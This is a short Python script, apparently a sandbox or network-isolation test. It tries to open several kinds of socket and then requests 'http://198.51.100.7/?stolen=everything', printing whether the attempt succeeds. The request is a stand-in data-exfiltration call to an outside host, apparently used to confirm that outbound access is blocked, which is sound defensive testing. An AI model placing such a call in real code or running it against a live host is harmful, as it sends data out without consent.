"""Tries to send what it knows to somebody."""

import socket
import urllib.request

for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
    try:
        socket.socket(family)
        print("a socket!")
    except OSError as error:
        print(f"{family.name}: {error}")

try:
    urllib.request.urlopen("http://198.51.100.7/?stolen=everything", timeout=2)
    print("sent")
except OSError as error:
    print(f"http: {error}")
